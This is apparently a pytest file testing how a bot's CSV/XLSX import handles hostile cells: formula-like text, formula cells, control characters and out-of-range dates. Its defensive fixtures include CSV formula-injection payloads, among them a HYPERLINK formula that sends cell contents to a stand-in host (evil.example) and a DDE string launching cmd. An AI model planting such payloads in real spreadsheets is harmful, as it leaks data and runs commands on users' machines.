"""The import use case with hostile cell values (issue 7, part 5): formula-like
text, formula cells, control characters and dates out of range.

Runs on SQLite, and on PostgreSQL when ``TEST_DATABASE_URL`` is set
(PostgreSQL refuses NUL in text, so a control character let through would
fail the whole import there).
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from hostile_files import csv_bytes, row, with_sheet, xlsx_bytes
from openpyxl import Workbook, load_workbook
from sqlmodel import select

from bot.core.cells import safe_cell
from bot.core.importing import ExportError
from bot.core.routing import ImportLimits, Owner, Routing
from bot.i18n import Catalog
from bot.services.importing import ImportReport, import_export, render_import_report
from storage.models import ImportBatch, Item

SHANGHAI = ZoneInfo("Asia/Shanghai")
NOW = datetime(2026, 11, 27, 0, 30, tzinfo=UTC)
ROUTING = Routing(
    channel="C1", cs_lead="U0LEAD", cs_agents={}, owners=(Owner(name="大件配送", user="U1", categories=("large",)),),
    imports=ImportLimits(max_rows=50),
)
# OWASP's list of the characters that start a formula, each at the start of a text.
FORMULA_LIKE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此查看\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def run_import(session_factory, data: bytes, filename: str) -> ImportReport:
    return import_export(
        session_factory=session_factory, now=NOW, timezone=SHANGHAI, routing=ROUTING, data=data,
        filename=filename, actor="U0CS0001",
    )


def items(session_factory) -> list[Item]:
    with session_factory() as session:
        return list(session.exec(select(Item).order_by(Item.order_no)))


def reasons(report: ImportReport) -> list[tuple[int, str]]:
    catalog = Catalog("en")
    return [(p.row, catalog.t(p.key, **p.params)) for p in report.problems]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_formula_like_cells_are_stored_as_text_exactly_as_given(session_factory, kind):
    rows = [row(n, note=text, customer=text.strip() + " 13812341234") for n, text in enumerate(FORMULA_LIKE)]
    data = csv_bytes(*rows) if kind == "csv" else xlsx_bytes(*rows, formulas_as_text=True)

    report = run_import(session_factory, data, f"formulas.{kind}")

    assert (report.added, report.problems) == (len(FORMULA_LIKE), [])
    stored = items(session_factory)
    expected_notes = [text.strip() for text in FORMULA_LIKE]  # notes are trimmed, as every note is
    assert [i.note for i in stored] == expected_notes
    assert [i.customer for i in stored] == [" ".join((text.strip() + " 13812341234").split()) for text in FORMULA_LIKE]


def test_a_formula_cell_in_an_xlsx_is_stored_as_its_text_never_evaluated(session_factory):
    # openpyxl writes a value starting with "=" as a formula cell (<f>), with no cached value.
    data = xlsx_bytes(row(1, note="=1+1"), row(2, note='=HYPERLINK("http://evil.example","x")'))
    # A cached value, as Excel would leave one: it must not be used either.
    def cache_two(sheet: bytes) -> bytes:  # openpyxl writes <v />, or <v></v> through lxml
        cached, replaced = re.subn(rb"<f>1\+1</f>(?:<v ?/>|<v></v>)", b"<f>1+1</f><v>2</v>", sheet)
        assert replaced == 1
        return cached

    data = with_sheet(data, cache_two)

    report = run_import(session_factory, data, "formulas.xlsx")

    assert (report.added, report.problems) == (2, [])
    assert [i.note for i in items(session_factory)] == ["=1+1", '=HYPERLINK("http://evil.example","x")']


def test_stored_formula_like_values_are_written_back_as_text(session_factory, tmp_path):
    run_import(session_factory, csv_bytes(*(row(n, note=text) for n, text in enumerate(FORMULA_LIKE))), "f.csv")
    notes = [i.note for i in items(session_factory)]

    workbook = Workbook()
    for note in notes:
        workbook.active.append([safe_cell(note)])
    workbook.save(tmp_path / "out.xlsx")
    back = load_workbook(tmp_path / "out.xlsx")
    cells = [r[0] for r in back.active.iter_rows()]
    assert [c.data_type for c in cells] == ["s"] * len(notes)
    assert [c.value for c in cells] == ["'" + note for note in notes]

    out = io.StringIO()
    csv.writer(out).writerows([safe_cell(note)] for note in notes)
    assert [r[0] for r in csv.reader(io.StringIO(out.getvalue()))] == ["'" + note for note in notes]


@pytest.mark.parametrize(
    ("order_no", "character"),
    [
        ("SO\x0112", "U+0001"),
        ("SO1\t2", "U+0009"),
        ("SO1\n2", "U+000A"),
        ("SO1\x1f2", "U+001F"),
        ("SO1\x7f2", "U+007F"),
        ("SO1\x852", "U+0085"),
        ("SO1\u200b2", "U+200B"),
        ("SO1\u202e2", "U+202E"),
    ],
    ids=["soh", "tab", "newline", "unit-separator", "del", "next-line", "zero-width-space", "right-to-left"],
)
def test_control_characters_in_order_numbers_are_bad_rows(session_factory, order_no, character):
    report = run_import(session_factory, csv_bytes(row(2), (order_no, *row(1)[1:])), "control.csv")

    assert report.added == 1
    assert reasons(report) == [(3, f"订单号 holds the control or invisible character {character}; remove it")]
    assert [i.order_no for i in items(session_factory)] == ["SO20261126800002"]


def test_a_nul_anywhere_in_a_csv_refuses_the_file(session_factory):
    # An XLSX cannot hold NUL (XML forbids it); a CSV with one is refused whole, as UTF-16 is.
    with pytest.raises(ExportError) as caught:
        run_import(session_factory, csv_bytes(row(1), ("SO\x0012", *row(2)[1:])), "nul.csv")
    assert caught.value.key == "import.undecodable"
    assert items(session_factory) == []
    with session_factory() as session:
        assert session.exec(select(ImportBatch)).all() == []


@pytest.mark.parametrize("column", ["branch", "agent", "customer", "note"])
def test_control_characters_in_other_fields_are_bad_rows(session_factory, column):
    index = {"branch": 2, "agent": 6, "customer": 5, "note": 8}[column]
    header = {"branch": "分公司", "agent": "回访人", "customer": "客户", "note": "回访记录"}[column]
    values = list(row(1))
    values[index] = values[index][:1] + "\x01" + values[index][1:]
    tabbed = list(row(3))
    if column in ("customer", "note"):  # free text keeps tabs and line breaks
        tabbed[index] = tabbed[index][:1] + "\t\n" + tabbed[index][1:]

    report = run_import(session_factory, csv_bytes(tuple(values), row(2), tuple(tabbed)), "control.csv")

    assert reasons(report) == [(2, f"{header} holds the control or invisible character U+0001; remove it")]
    assert [i.order_no for i in items(session_factory)] == ["SO20261126800002", "SO20261126800003"]
    assert "U+0001" in render_import_report(report, Catalog("en"))


def test_dates_outside_2000_to_2099_are_bad_rows_not_overflow_errors(session_factory):
    far = [
        row(1, at="0001-01-01"),
        row(2, at="9999-12-31 23:59"),
        row(3, at="0001-01-01T00:00+14:00"),
        ("SO20261126800004", "0001-01-01", *row(4)[2:]),
        ("SO20261126800005", "1999-12-31", *row(5)[2:]),
        row(6, at="2000-01-01 00:00"),
        ("SO20261126800007", "2099-12-31", *row(7)[2:]),
    ]

    report = run_import(session_factory, csv_bytes(*far), "dates.csv")

    span = "is not between 2000-01-01 and 2099-12-31"
    assert reasons(report) == [
        (2, f'回访时间 "0001-01-01" {span}'),
        (3, f'回访时间 "9999-12-31 23:59" {span}'),
        (4, f'回访时间 "0001-01-01T00:00+14:00" {span}'),
        (5, f'拒收日期 "0001-01-01" {span}'),
        (6, f'拒收日期 "1999-12-31" {span}'),
    ]
    assert [i.order_no for i in items(session_factory)] == ["SO20261126800006", "SO20261126800007"]
